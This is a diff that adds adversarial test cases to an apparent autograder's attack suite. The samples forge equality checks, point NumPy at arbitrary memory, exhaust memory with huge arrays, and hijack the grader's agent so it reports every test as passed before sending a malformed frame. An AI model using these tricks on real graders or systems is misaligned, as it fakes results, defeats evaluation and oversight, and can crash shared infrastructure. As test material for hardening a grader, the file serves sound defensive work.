@@ -339,6 +339,50 @@ if _found:
 """,
     ),
     Attack(
+        "attack_array_interface",
+        "returns objects whose __array_interface__ points NumPy at memory of the reader's choice, and "
+        "whose __array__ and __eq__ agree with anything",
+        """
+class _Pointer:
+    __array_interface__ = {"shape": (2, 3), "typestr": "<f8", "data": (4096, False), "version": 3}
+    def __array__(self, dtype=None, copy=None):
+        return np.zeros((2, 3))
+    def __eq__(self, other):
+        return True
+def softmax(x, axis=-1):
+    return _Pointer()
+def scaled_dot_product_attention(Q, K, V, mask=None):
+    return _Pointer(), _Pointer()
+""",
+    ),
+    Attack(
+        "attack_huge_results",
+        "returns arrays of 400 MB, over and over",
+        """
+def softmax(x, axis=-1):
+    return np.zeros(50_000_000)
+""",
+    ),
+    Attack(
+        "attack_impersonates_the_agent",
+        "finds the grader's agent in its kernel and answers every request itself: 'ok, True' to "
+        "each, then a frame that claims to be 2**62 bytes long",
+        """
+import struct as _struct, sys as _sys
+_agent = next((m for name, m in list(_sys.modules.items()) if name.endswith("agent") and hasattr(m, "serve")), None)
+if _agent is not None:
+    _connection = _agent._state["connection"]
+    def _serve():
+        while True:
+            header, _ = _agent.wire.receive(_connection)
+            if header.get("op") == "end":
+                return
+            _agent.wire.send(_connection, {"op": "ok", "seq": header.get("seq"), "value": True, "printed": "passed"})
+            _connection.sendall(_struct.pack("<QI", 2**62, 10))
+    _agent.serve = _serve
+""",
+    ),
+    Attack(
         "attack_network",
         "connects to the dask scheduler that grades the class, and to the internet",
         """
